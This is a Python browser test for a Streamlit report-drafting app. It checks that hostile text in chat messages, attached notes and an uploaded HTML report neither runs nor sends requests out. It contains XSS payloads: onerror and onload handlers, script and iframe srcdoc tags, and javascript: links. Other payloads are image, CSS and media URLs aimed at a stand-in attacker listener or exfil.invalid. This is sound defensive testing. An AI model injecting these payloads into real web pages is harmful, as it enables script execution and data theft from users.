"""Hostile text in headless Chromium (issue 9): nothing a chat, a note or a report says runs or leaks.

Payloads (script tags and handlers, iframe srcdoc, svg onload, Markdown images and links pointing at a
local HTTP listener the test starts, javascript: links, Streamlit directives) are typed into the chat,
attached as a note, and carried by the agency name and section text of an uploaded last-year .html
report. The proposals are applied, every view is opened (expanders too), and the draft is opened
again in a second browser context, as a colleague on a shared store would. The test asserts that no
script ran (no dialog, no global set by a payload, no console marker), that no request left the page
for anything but the app's own origin, and that the listener was never reached.

Fails (never skips) when Chromium is missing: ``make sysdeps`` installs it.
"""

from __future__ import annotations

import re
import threading
from collections.abc import Iterator
from contextlib import contextmanager
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any

import pytest

from assistant.store import DraftStore
from assistant.workspace import Workspace
from tests.appserver import ROOT, browser, running_app
from tests.test_browser import TIMEOUT, settle, tab

pytestmark = pytest.mark.browser
VIEWS = ["表二", "表三", "表四", "正文", "检查", "导出", "修改记录"]
MARKER = "XSS-MARKER"


class _Counter(BaseHTTPRequestHandler):
    hits: list[str]

    def do_GET(self) -> None:
        self.hits.append(self.path)
        self.send_response(200)
        self.send_header("Content-Type", "image/png")
        self.end_headers()

    do_POST = do_GET

    def log_message(self, *_: Any) -> None:
        pass


@contextmanager
def listener() -> Iterator[tuple[str, list[str]]]:
    """A local HTTP server standing for an attacker's: its URL and the paths it was asked for."""
    hits: list[str] = []
    handler = type("Handler", (_Counter,), {"hits": hits})
    server = ThreadingHTTPServer(("127.0.0.1", 0), handler)
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    try:
        yield f"http://127.0.0.1:{server.server_address[1]}", hits
    finally:
        server.shutdown()
        server.server_close()


def payloads(evil: str) -> list[str]:
    """Each tries to run script (setting ``window.__pwned``, logging MARKER, opening a dialog) or reach ``evil``."""
    js = f"window.__pwned=(window.__pwned||0)+1;console.log('{MARKER}');fetch('{evil}/js')"
    return [
        f'<img src=x onerror="{js}">',
        f'<img src="{evil}/img.png?cells=12">',
        f"<iframe srcdoc=\"<script>parent.__pwned=1;parent.console.log('{MARKER}')</script>\"></iframe>",
        "<svg onload=alert(1)>",
        f"<script>{js}</script>",
        f"![x]({evil}/?cells=t3.new.natural-12)",
        f"![y][r]\n\n[r]: {evil}/ref.png",
        "[点此核对](javascript:alert(document.domain))",
        f"<a href=\"{evil}/a\">链接</a> <{evil}/auto> {evil}/bare",
        f"<link rel=stylesheet href=\"{evil}/css\"><style>@import url({evil}/style);</style>",
        f"<video src=\"{evil}/v\" autoplay></video><object data=\"{evil}/o\"></object>",
        ":red[红色指令] :material/home: :smile: $\\href{javascript:alert(1)}{公式}$",
    ]


def report_html(evil: str) -> bytes:
    """Last year's report (a real portal page) with payloads, as text, in the agency name and section five."""
    import html

    page = (ROOT / "fixtures" / "import" / "portal-utf8.html").read_text(encoding="utf-8")
    agency = "江北区" + html.escape("<img src=x onerror=alert(1)>") + "人民政府"  # ≤ 40 characters: read as the name
    page = page.replace('<h1 class="title">江北区人民政府2023年', f'<h1 class="title">{agency}2023年')
    page = page.replace("<title>江北区人民政府2023年", f"<title>{agency}2023年")
    s5 = "".join(html.escape(p) for p in payloads(evil))
    page = page.replace("本年度仍存在部分部门公开不及时的问题", f"本年度仍存在{s5}部分部门公开不及时的问题")
    return page.encode("utf-8")


class Watch:
    """Everything a payload could do in a page: dialogs, console lines, requests, globals."""

    def __init__(self, origin: str, evil: str) -> None:
        self.origin, self.evil = origin, evil
        self.dialogs: list[str] = []
        self.console: list[str] = []
        self.outside: list[str] = []

    def attach(self, page: Any) -> None:
        page.on("dialog", lambda d: (self.dialogs.append(d.message), d.dismiss()))
        page.on("console", lambda m: self.console.append(m.text))
        page.on("request", self._request)

    def _request(self, request: Any) -> None:
        url = request.url
        if not (url.startswith(self.origin + "/") or url == self.origin or url.startswith(("data:", "blob:", "about:"))):
            self.outside.append(url)

    def check(self, page: Any, where: str) -> None:
        page.wait_for_timeout(300)  # images and handlers fire right after rendering
        pwned = [f.evaluate("() => window.__pwned || null") for f in page.frames if not f.is_detached()]
        assert not any(pwned), f"{where}: a payload's script ran ({pwned})"
        assert not self.dialogs, f"{where}: a dialog opened: {self.dialogs}"
        assert not [c for c in self.console if MARKER in c], f"{where}: a payload logged to the console"
        assert not self.outside, f"{where}: requests left the page: {self.outside}"
        hostile = page.evaluate(
            """evil => [...document.querySelectorAll('[data-testid="stAppViewContainer"] *')]
                .filter(e => ['SCRIPT', 'IFRAME', 'OBJECT', 'EMBED', 'VIDEO', 'LINK'].includes(e.tagName)
                    || [...e.attributes].some(a => a.name.startsWith('on') || a.name === 'srcdoc'
                        || /^\\s*javascript:/i.test(a.value) || a.value.startsWith(evil)))
                .map(e => e.outerHTML.slice(0, 200))""", self.evil)
        assert not hostile, f"{where}: hostile elements in the page: {hostile}"


def open_every_view(page: Any, watch: Watch, where: str, views: list[str] = VIEWS) -> str:
    """Each view on the right, every expander opened; the text of the page as it was shown."""
    seen = []
    for view in views:
        tab(page, view)
        page.evaluate("""() => document.querySelectorAll('[data-testid="stExpander"] details:not([open]) > summary')
            .forEach(s => s.click())""")  # closed expanders hold their content too; opened, it is drawn
        settle(page)
        watch.check(page, f"{where} / {view}")
        seen.append(page.locator("body").inner_text())
    return "\n".join(seen)


def test_hostile_text_never_runs_and_nothing_leaves_the_page(tmp_path: Path) -> None:
    data_dir = tmp_path / "data"
    note = tmp_path / "工作笔记.md"
    with listener() as (evil, hits), browser() as b, running_app(data_dir) as url:
        attack = payloads(evil)
        note.write_text('今年收到法人或其他组织中商业企业申请3件<img src="//exfil.invalid/n.png">。\n' + "\n".join(attack),
                        encoding="utf-8")
        (tmp_path / "上年报告.html").write_bytes(report_html(evil))
        watch = Watch(url, evil)
        context = b.new_context(viewport={"width": 1500, "height": 1000})
        page = context.new_page()
        page.set_default_timeout(TIMEOUT)
        watch.attach(page)
        page.goto(url)
        page.get_by_text("从上年报告开始").wait_for()

        # 1. last year's report: payloads in the agency name and section five
        page.locator('[data-testid="stFileUploader"] input[type="file"]').first.set_input_files(
            str(tmp_path / "上年报告.html"))
        settle(page)  # read at once: a 2023 report makes a 2024 draft
        page.get_by_role("button", name="读取并新建2024年度草稿").click()
        page.get_by_text(re.compile("已从2023年报告读取")).wait_for()
        watch.check(page, "prefill")
        draft_id = re.search(r"draft=([0-9a-f]+)", page.url).group(1)  # type: ignore[union-attr]

        # 2. the chat: payloads inside the words a proposal quotes as evidence (applied), then all of them
        box = page.get_by_test_id("stChatInputTextArea")
        # (the offline engine ends a quote at ":" and ",": no scheme or port fits, a protocol-relative URL does)
        box.fill('今年收到<img src=x onerror=alert(1)>自然人申请12件，予以公开8件<img src="//exfil.invalid/e.png">，'
                 "部分公开2件<svg onload=alert(2)>。")
        box.press("Enter")
        page.get_by_role("button", name="全部应用").last.wait_for()
        watch.check(page, "chat proposal")
        page.get_by_role("button", name="全部应用").last.click()
        page.get_by_text(re.compile("已应用")).first.wait_for()
        settle(page)
        box.fill("\n".join(attack))
        box.press("Enter")
        settle(page)
        watch.check(page, "chat message")

        # 3. a note attached to the chat
        page.locator('[data-testid="stChatInput"] input[type="file"]').set_input_files(str(note))
        page.locator('[data-testid="stChatInputSubmitButton"]:not([disabled])').wait_for()
        page.get_by_test_id("stChatInputSubmitButton").click()
        page.get_by_text(re.compile("📎 工作笔记")).first.wait_for()
        settle(page)
        watch.check(page, "note proposal")
        page.get_by_role("button", name="全部应用").last.click()
        page.get_by_text(re.compile("已应用")).first.wait_for()
        settle(page)

        shown = open_every_view(page, watch, "first clerk")
        # the payloads were on screen, as the characters they are
        assert "onerror=" in shown and ":red[红色指令]" in shown and "](javascript:" in shown
        assert '予以公开8件<img src="//exfil.invalid/e.png">' in shown  # evidence, in opened expanders
        assert "<img src=x onerror=alert(1)>" in page.locator("h1").first.inner_text()  # the agency, as text

        # 4. a colleague opens the same draft (a shared store): stored text must not run there either
        other = b.new_context(viewport={"width": 1500, "height": 1000})
        colleague = other.new_page()
        colleague.set_default_timeout(TIMEOUT)
        watch.attach(colleague)
        colleague.goto(f"{url}/?draft={draft_id}")
        colleague.get_by_test_id("stChatInputTextArea").wait_for()
        settle(colleague)
        watch.check(colleague, "colleague")
        open_every_view(colleague, watch, "colleague", ["正文", "修改记录"])
        other.close()
        context.close()

    assert hits == [], f"the listener was reached: {hits}"
    stored = Workspace.open(DraftStore(f"sqlite:///{data_dir / 'drafts.sqlite3'}"), draft_id)
    assert stored.report.get("t3.new.natural") == 12 and stored.report.get("t3.new.commercial") == 3  # applied
    assert stored.report.meta.agency and "onerror" in stored.report.meta.agency  # kept as data, shown as text
    assert any("onerror" in (c.evidence or "") for s in stored.draft.steps for c in s.changes)
